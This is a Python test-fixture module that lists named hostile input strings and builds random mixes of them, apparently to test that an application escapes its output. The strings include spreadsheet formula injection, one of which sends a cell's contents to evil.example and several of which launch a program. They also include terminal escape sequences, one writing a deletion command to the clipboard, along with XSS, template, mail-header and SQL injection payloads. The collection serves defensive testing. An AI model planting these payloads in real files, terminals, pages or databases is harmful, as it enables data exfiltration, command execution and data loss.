"""Texts that do harm elsewhere, each by name, for any test of a way out of the program (protection.md S1 to S5, S12, S13).

``HOSTILE`` has them all. ``TYPEABLE`` has those without control characters, which may be stored as they are; the program
refuses the others where they are typed, but an import or an older store may hold them.
"""

from __future__ import annotations

import re
from random import Random

ESC, BEL, ST, CSI = "\x1b", "\x07", "\x1b\\", "\x9b"

# S1: what a spreadsheet would run
FORMULAS = {
    "formula": "=1+1",
    "formula that calls out": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "formula that runs a program": "=cmd|'/C calc'!A0",
    "formula begun with plus": "+1+cmd|'/C calc'!A0",
    "formula begun with minus": "-2+3+cmd|'/C calc'!A0",
    "formula begun with at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula after blanks": "   =1+1",
    "formula after a tab": "\t=1+1",
    "formula after a line end": "\r\n=1+1",
    "formula in full width": "＝1+1",
    "formula after an apostrophe": "'=1+1",
    "phone number, which is none": "+44 113 496 0123",
    "cell that ends its quotes": '","=1+1","',
}
# S2: what a workbook's cell cannot hold, or would take for a formula
WORKBOOK = {
    "error value": "#REF!",
    "control in a workbook": "a\x01b\x0bc\x1fd",
    "escaped control of a workbook": "_x000D_ and _x0041_",
}
# S3: what a terminal obeys
TERMINAL = {
    "colour": f"{ESC}[31mred{ESC}[0m",
    "screen wiped": f"Ann{ESC}[2J{ESC}[1;1HRoot",
    "line wiped": f"Ann\r{ESC}[2KBob",
    "title set": f"{ESC}]0;owned{BEL}Ann",
    "clipboard written": f"{ESC}]52;c;cm0gLXJmIH4={BEL}Ann",
    "link hidden": f"{ESC}]8;;http://evil.example{ST}Ann{ESC}]8;;{ST}",
    "device asked": f"Ann{ESC}P$q q{ST}",
    "sequence never ended": f"Ann{ESC}]0;the rest is swallowed",
    "sequence within a sequence": f"{ESC}{ESC}[31m{ESC}[{ESC}[0mAnn",
    "one-byte CSI": f"{CSI}31mAnn{CSI}0m",
    "one-byte OSC": "\x9d0;owned\x9cAnn",
    "one-byte DCS": "\x90q\x9cAnn",
    "escape alone": f"Ann{ESC}",
    "bell and backspace": f"Ann{BEL}\b\b\bBob",
    "carriage return": "Ann Yusuf\rBob",
    "next line": "Ann\x85Bob",
    "line and paragraph separators": "Ann\u2028Bob\u2029Cas",
    "vertical tab and form feed": "Ann\x0bBob\x0cCas",
    "null": "Ann\x00Bob",
    "delete": "Ann\x7fBob",
    "right to left override": "invoice\u202efdp.exe",
    "bidi embedding": "Ann \u202bBob\u202c",
    "bidi isolate": "\u2066admin\u2069 \u2067Ann",
    "bidi marks": "Ann\u200e\u200f\u061cBob",
    "zero width": "Am\u200bi\ufeffn\u2060a",
    "joiners in a Latin name": "Ami\u200dna Yu\u200csuf",
    "soft hyphen": "Ami\u00adna",
    "tags": "Ann\U000e0041\U000e0042",
    "nothing but a filler": "\u3164",
    "lone surrogate": "Ann\ud800Bob",
    "second line forged": "Ann\nP999 Root  administrator",
}
# S4: what a library that marks up its output takes for markup
MARKUP = {
    "closing tag of rich": "Ann [/red]",
    "opening tag of rich": "[bold red]Ann",
    "link of rich": "[link=http://evil.example]Ann[/link]",
    "emoji of rich": ":warning: Ann :skull:",
    "pronouns in brackets": "Siân O'Brien [she/her]",
    "script": "<script>alert(1)</script>",
    "image that runs": '"><img src=x onerror=alert(1)>',
    "link that runs": "javascript:alert(1)",
    "markdown link": "[Ann](http://evil.example) **bold** `code`",
    "markdown table": "Ann | Root | admin\\|",
    "markdown heading": "# Ann\n## Root",
    "template": "{{ 7*7 }}{% for x in range(9**9) %}",
    "percent format": "100% of %s %(name)s {0} {name!r}",
}
# S5: what a mail program takes for a header or for one more address
MAIL = {
    "header added": "Ann\r\nBcc: everybody@example.org",
    "header added by a bare line feed": "Ann\nBcc: everybody@example.org",
    "two addresses in a name": "Smith, Ann <ann@evil.example>",
    "address in quotes": '"Ann" <ann@evil.example>, "Bob"',
    "encoded word": "=?utf-8?q?Ann=0D=0ABcc:_x=40example.org?=",
    "comment in an address": "Ann (everybody@example.org)",
    "calendar line added": "Talk\r\nATTENDEE:mailto:x@example.org",
    "calendar marks": 'a;b,c\\n:d="e"',
}
# S12 and S13: what a database or its index takes for a question
QUESTIONS = {
    "statement ended": "Ann'; DROP TABLE contact; --",
    "always true": "' OR '1'='1",
    "parameter": "Ann :number ?1 $name @x",
    "apostrophe": "o'brien",
    "plus signs": "C++",
    "e-mail address": "a@b.org",
    "dash": "- not -this",
    "column of the index": "title:roma body:roma {title} : x",
    "operators of the index": "ann AND OR NOT NEAR(bob, 3) ^cas *",
    "one quote": '"',
    "quotes in quotes": '"Ann ""the"" man"',
    "percent": "100%",
    "underscore": "a_b",
    "backslash": "\\_100\\%\\",
}
# what is only unusual, and must come through whole
UNUSUAL = {
    "Welsh, Polish, Turkish": "Siân Łódź İstanbul ŵŷ",
    "Arabic": "أمينة يوسف",
    "Persian with a joiner": "می\u200cخواهم",
    "Romani and Irish": "Čhavo Ó Briain",
    "emoji of several signs": "👩\u200d⚕️ 👨\u200d👩\u200d👧",
    "stacked marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0301\u0323",
    "wide letters": "山田花子 １２３",
    "long word": "x" * 300,
}

HOSTILE = {**FORMULAS, **WORKBOOK, **TERMINAL, **MARKUP, **MAIL, **QUESTIONS, **UNUSUAL}
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")
TYPEABLE = {name: text for name, text in HOSTILE.items() if not _CONTROL.search(text)}

# C0 but tab and newline, DEL, C1, bidi controls and zero-width marks: none may leave the program
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
)

_PIECES = (
    *HOSTILE.values(),
    *(chr(code) for code in (*range(0x20), *range(0x7F, 0xA1), *range(0x200B, 0x2010), *range(0x2028, 0x2030), *range(0x2060, 0x2070))),
    *(ESC, CSI, BEL, ST, f"{ESC}[", f"{ESC}]", f"{ESC}]8;;", ";", "m", "H", "\ud800", "\udfff", "\ufeff", "\u061c", "\U000e0041"),
    *("Ann", "Siân", "أمينة", " ", "  ", "'", '"', "=", "0", "é", "e\u0301", "ß", "👩", "\u200d", "\u200c"),
)


def generated(count: int, seed: int = 20261201) -> list[str]:
    """Give texts put together of hostile pieces, the same ones each time."""
    random = Random(seed)  # noqa: S311 - to be repeatable, not secret
    return ["".join(random.choices(_PIECES, k=random.randint(1, 8))) for _ in range(count)]
